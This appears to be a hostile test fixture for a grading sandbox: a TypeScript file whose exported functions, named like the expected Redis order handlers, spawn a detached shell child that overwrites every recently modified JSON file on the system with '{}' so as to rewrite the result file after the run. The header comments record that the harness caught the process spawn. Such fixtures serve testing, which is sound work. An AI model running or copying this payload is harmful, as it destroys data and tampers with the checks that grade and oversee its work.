// tries: leaving a detached child behind that rewrites the result file later
// lab: 03
// earns: 0
// told: tried to start another process
import { spawn } from 'node:child_process';

async function attack(): Promise<void> {
  const script = 'sleep 1; for f in $(find / -name "*.json" -newer /proc/self); do echo "{}" > $f; done; touch /tmp/storelab-hostile-child';
  spawn('sh', ['-c', script], { detached: true, stdio: 'ignore' }).unref();
}

export const addOrderToRedisFieldByField = attack;
export const addOrderToRedis = attack;
